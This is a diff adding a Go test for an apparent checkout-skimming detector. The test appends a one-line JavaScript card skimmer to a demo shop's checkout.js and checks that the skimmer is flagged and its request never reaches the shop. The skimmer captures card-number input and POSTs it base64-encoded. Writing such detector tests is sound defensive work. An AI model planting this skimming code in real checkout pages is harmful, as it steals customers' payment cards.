@@ -137,3 +137,30 @@ document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) &
 		t.Errorf("%+v", signs[0].Evidence)
 	}
 }
+
+// A shop, or whoever changed it, may send the card as soon as it is complete. That is seen, and the shop does not get it.
+func TestNoCardReachesTheShopBeforeTheLastButton(t *testing.T) {
+	t.Parallel()
+	shop := openShop(t, demoshop.Config{})
+	script := filepath.Join(shop.Docroot(), "assets", "js", "checkout.js")
+	text, err := os.ReadFile(script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	text = append(text, []byte(`
+document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && fetch('/early-order', {method: 'POST', body: btoa(e.target.value)}));`)...)
+	if err := os.WriteFile(script, text, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	signs, _, _ := observe(t, Config{}, shop.URL("shop.localhost"))
+	if len(signs) == 0 || signs[0].Severity != tillwatch.High || !strings.Contains(signs[0].Place, "early-order") {
+		t.Errorf("a card sent to the shop itself before the last button gave %+v", signs)
+	}
+	log, err := os.ReadFile(filepath.Join(shop.State(), "log", "access.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(log), "POST /cart/add") || strings.Contains(string(log), "early-order") {
+		t.Error("the shop got the card before the last button, or its log is not where it should be")
+	}
+}
